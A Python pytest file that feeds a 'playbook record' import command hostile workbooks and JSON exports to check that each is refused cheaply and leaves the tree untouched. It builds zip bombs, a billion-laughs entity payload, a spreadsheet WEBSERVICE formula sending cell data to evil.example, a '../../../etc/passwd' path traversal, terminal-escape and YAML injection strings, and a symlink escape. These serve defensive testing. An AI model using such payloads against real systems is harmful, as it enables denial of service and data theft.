"""``playbook record`` given what strangers send: refused with a reason within bounded memory, and nothing written.

The reader's own refusals are in ``test_record``; here the whole command runs, in a process that may take so much memory and no more.
"""

from __future__ import annotations

import gzip
import io
import json
import shutil
import zipfile
from collections.abc import Callable
from pathlib import Path
from typing import Any

import openpyxl
import pytest
from bounded import Done, playbook
from ruamel.yaml import YAML
from test_record import BAD_JSON, BAD_WORKBOOKS
from trees import ROOT

from generator.roundtrip.fields import ITEM, Field

TODAY = "2026-10-15"
Parts = dict[str, bytes]


@pytest.fixture(scope="module")
def printed(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """A tree, and in out/fresh/ the sheets printed from it."""
    root = tmp_path_factory.mktemp("root")
    shutil.copytree(ROOT / "tests" / "cases" / "_tree" / "playbooks", root / "playbooks")
    (root / "mkdocs.yml").write_text("site_name: x\n")
    done = playbook(root, "--today", TODAY, "checklist", "fresh", "--format", "html,xlsx", "--out", root / "out")
    assert done.code == 0, done.err
    return root


def state(root: Path) -> dict[str, tuple[bytes, int]]:
    return {
        str(path.relative_to(root)): (path.read_bytes(), path.stat().st_mtime_ns)
        for path in sorted((root / "playbooks").rglob("*"))
        if path.is_file()
    }


def record(root: Path, file: Path) -> Done:
    return playbook(root, "--today", TODAY, "record", "fresh", file)


def refused(root: Path, content: bytes, tmp_path: Path) -> str:
    """The one reason for which a returned file is not taken; nothing of the tree has been touched."""
    before = state(root)
    file = tmp_path / "returned.xlsx"
    file.write_bytes(content)
    done = record(root, file)
    assert done.code == 1
    assert done.out == ""
    assert done.err.strip()
    assert "\x1b" not in done.err
    assert len(done.err) < 1_000
    assert state(root) == before
    return done.err


def workbook(root: Path) -> bytes:
    return (root / "out/fresh/fresh.en.xlsx").read_bytes()


def export(root: Path) -> dict[str, Any]:
    page = (root / "out/fresh/fresh.en.html").read_text("utf-8")
    found: dict[str, Any] = json.loads(page.split('id="playbook-sheet"')[1].split(">", 1)[1].split("</script>")[0])
    return found


def rezipped(content: bytes, change: Callable[[Parts], object]) -> bytes:
    with zipfile.ZipFile(io.BytesIO(content)) as archive:
        parts = {name: archive.read(name) for name in archive.namelist()}
    change(parts)
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, part in parts.items():
            archive.writestr(name, part)
    return out.getvalue()


def million_laughs(parts: Parts) -> None:
    levels = "".join(f'<!ENTITY e{n} "{f"&e{n - 1};" * 10}">' for n in range(1, 10))
    doctype = f'<!DOCTYPE x [<!ENTITY e0 "lol">{levels}]>'.encode()
    parts["xl/sharedStrings.xml"] = (
        parts["xl/sharedStrings.xml"].replace(b"?>", b"?>" + doctype, 1).replace(b"<t>", b"<t>&e9;", 1)
    )


def lying(content: bytes) -> bytes:
    """A bomb whose directory says that it is small."""
    bomb = bytearray(rezipped(content, lambda parts: parts.update({"xl/sharedStrings.xml": b" " * 60_000_000})))
    size = (60_000_000).to_bytes(4, "little")
    assert size in bomb
    return bytes(bomb.replace(size, (1_000).to_bytes(4, "little")))


def strings(parts: Parts) -> None:
    """As many different strings as the bound on XML lets through."""
    many = b"".join(b"<si><t>%d</t></si>" % n for n in range(300_000))
    parts["xl/sharedStrings.xml"] = parts["xl/sharedStrings.xml"].replace(b"</sst>", many + b"</sst>")


def deep(parts: Parts) -> None:
    parts["xl/workbook.xml"] = b'<?xml version="1.0"?>' + b"<x>" * 300_000


def attributes(parts: Parts) -> None:
    parts["docProps/core.xml"] = b"<x " + b" ".join(b'a%d="1"' % n for n in range(300_000)) + b"/>"


def foreign_sheet() -> bytes:
    book, out = openpyxl.Workbook(), io.BytesIO()
    book.active["A1"] = '=WEBSERVICE("https://evil.example/"&A2)'
    book.create_sheet("_playbook")["A1"] = '{"format": 1, "engagement": "fresh", "items": {}}'
    book.save(out)
    return out.getvalue()


WORKBOOKS: dict[str, tuple[Callable[[bytes], bytes], str]] = {
    "a bomb whose directory lies": (lying, "damaged"),
    "a bomb of 60 MB": (
        lambda book: rezipped(book, lambda parts: parts.update({"xl/worksheets/sheet1.xml": b" " * 60_000_000})), "unreasonable",
    ),
    "a zip inside a zip": (lambda book: rezipped(b"PK\x05\x06" + bytes(18), lambda parts: parts.update({"x.zip": book})), "damaged"),
    "a billion laughs": (lambda book: rezipped(book, million_laughs), "entities"),
    "300,000 open tags": (lambda book: rezipped(book, deep), "damaged"),
    "without its workbook": (lambda book: rezipped(book, lambda parts: parts.pop("xl/workbook.xml")), "damaged"),
    "a foreign sheet that names us": (lambda _: foreign_sheet(), "no sheet that"),
    "macros in another case": (lambda book: rezipped(book, lambda parts: parts.update({"XL/VBAPROJECT.BIN": b"x"})), "macros"),
    "another book": (lambda book: rezipped(book, lambda parts: parts.update({"xl/workbook.xml": b"<a/>"})), "no sheet that"),
}  # fmt: skip


@pytest.mark.parametrize(("make", "reason"), WORKBOOKS.values(), ids=list(WORKBOOKS))
def test_a_hostile_workbook_is_refused_cheaply(
    printed: Path, tmp_path: Path, make: Callable[[bytes], bytes], reason: str
) -> None:
    assert reason in refused(printed, make(workbook(printed)), tmp_path)


@pytest.mark.parametrize("name", list(BAD_WORKBOOKS))
def test_what_the_reader_refuses_the_command_refuses(printed: Path, tmp_path: Path, name: str) -> None:
    make, reason = BAD_WORKBOOKS[name]
    assert reason.split(":")[0] in refused(printed, make(), tmp_path)


@pytest.mark.parametrize("name", list(BAD_JSON))
def test_what_is_no_export_the_command_refuses(printed: Path, tmp_path: Path, name: str) -> None:
    content = BAD_JSON[name]
    if isinstance(content, dict):
        content = json.dumps(content)
    refused(printed, content.encode() if isinstance(content, str) else content, tmp_path)


EXPORTS: dict[str, Callable[[dict[str, Any]], bytes]] = {
    "a million lists": lambda data: json.dumps(data | {"x": [[]] * 900_000}).encode() + b"]",
    "100,000 levels": lambda data: b'{"format": 1, "engagement": "fresh", "items": ' + b'{"a":' * 100_000,
    "400 levels of changes": lambda data: json.dumps(
        data | {"changes": json.loads('{"a":' * 400 + "1" + "}" * 400)}
    ).encode(),
    "a million items": lambda data: json.dumps(data | {"items": {f"ECP-A{n}": {} for n in range(200_000)}}).encode(),
    "a figure beyond all figures": lambda data: json.dumps(data).replace('"format": 1', '"format": 1e999999').encode(),
    "a note of two million signs": lambda data: json.dumps(
        data | {"changes": {"DEM-A02": {"note": "x" * 2_000_000}}}
    ).encode(),
    "a note that commands a terminal": lambda data: json.dumps(
        data | {"changes": {"DEM-A02": {"note": "\x1b[2J"}}}
    ).encode(),
    "a state of every kind": lambda data: json.dumps(data | {"changes": {"DEM-A02": {"state": ["done"]}}}).encode(),
    "an engagement that is a path": lambda data: json.dumps(data | {"engagement": "../../../etc/passwd"}).encode(),
    "UTF-16": lambda data: json.dumps(data).encode("utf-16"),
}


@pytest.mark.parametrize("make", EXPORTS.values(), ids=list(EXPORTS))
def test_a_hostile_export_is_refused_cheaply(
    printed: Path, tmp_path: Path, make: Callable[[dict[str, Any]], bytes]
) -> None:
    refused(printed, make(export(printed)), tmp_path)


OTHER_FILES: dict[str, bytes] = {
    "nothing": b"",
    "a PDF": b"%PDF-1.7\n" + bytes(2_000),
    "a picture": b"\x89PNG\r\n\x1a\n" + bytes(2_000),
    "a compressed export": gzip.compress(b"{}"),
    "a program": b"\x7fELF" + bytes(2_000),
    "a table of another kind": "编号,价格\nDEM-A01,7\n".encode(),
    "a table of quotes": ("编号,状态\n" + '"' * 200_001).encode(),
    "a million commas": "编号,状态\n".encode() + b"," * 1_000_000,
    "a mail": b"From: x@example.com\n\ndone",
    "an empty zip": b"PK\x05\x06" + bytes(18),
}


@pytest.mark.parametrize("content", OTHER_FILES.values(), ids=list(OTHER_FILES))
def test_any_other_file_is_refused(printed: Path, tmp_path: Path, content: bytes) -> None:
    refused(printed, content, tmp_path)


def test_every_tenth_of_a_workbook_is_refused(printed: Path, tmp_path: Path) -> None:
    whole = workbook(printed)
    for tenth in range(1, 10):
        assert "damaged" in refused(printed, whole[: len(whole) * tenth // 10], tmp_path)


def test_a_workbook_of_endless_strings_costs_little_and_says_nothing_new(printed: Path, tmp_path: Path) -> None:
    file = tmp_path / "returned.xlsx"
    before = state(printed)
    for change in (strings, attributes):
        file.write_bytes(rezipped(workbook(printed), change))
        done = record(printed, file)
        assert done.code in (0, 1), done.err
        assert state(printed) == before


@pytest.mark.parametrize("name", ["missing.xlsx", ".", "/dev/zero"])
def test_what_is_no_file_is_said_in_one_line(printed: Path, tmp_path: Path, name: str) -> None:
    before = state(printed)
    done = record(printed, Path(name) if name.startswith("/") else tmp_path / name)
    assert done.code in (1, 2)
    assert len(done.err.strip().splitlines()) == 1
    assert state(printed) == before


def test_a_link_in_the_place_of_the_engagement_is_not_followed(printed: Path, tmp_path: Path) -> None:
    root = tmp_path / "root"
    shutil.copytree(printed, root)
    data = export(root) | {"changes": {"DEM-A02": {"state": "done"}}}
    (root / "back.json").write_text(json.dumps(data))
    own = root / "playbooks/engagements/fresh.yaml"
    own.rename(tmp_path / "elsewhere.yaml")
    own.symlink_to(tmp_path / "elsewhere.yaml")
    before = (tmp_path / "elsewhere.yaml").read_bytes()
    done = record(root, root / "back.json")
    assert done.code == 2
    assert "link out of the tree" in done.err
    assert (tmp_path / "elsewhere.yaml").read_bytes() == before


HOSTILE = "done\n  DEM-A01: {state: done} # \"x\" 'y' &a *b !!c {d: [e\n---\n=1+1 <script>"


@pytest.mark.parametrize("field", ITEM)
@pytest.mark.parametrize("text", [HOSTILE, "done\x1b[2J", "\u202edone"])
def test_a_returned_text_stays_in_its_field_or_is_refused(
    printed: Path, tmp_path: Path, field: Field, text: str
) -> None:
    own = printed / "playbooks/engagements/fresh.yaml"
    before = own.read_bytes()
    returned = tmp_path / "returned.json"
    returned.write_text(json.dumps(export(printed) | {"changes": {"DEM-A02": {field: text}}}))
    done = record(printed, returned)
    after = own.read_bytes()
    own.write_bytes(before)
    assert "\x1b" not in done.err + done.out
    if after == before:
        assert done.code == 1
        assert done.err.strip()
        return
    was, now = (YAML(typ="safe").load(content) for content in (before, after))
    found = now["status"].pop("DEM-A02").pop(field)
    # A text of an author may hold no tag: what would begin one is put into backquotes.
    assert " ".join(str(found).replace("`<`", "<").split()) == " ".join(text.split())
    assert now == was
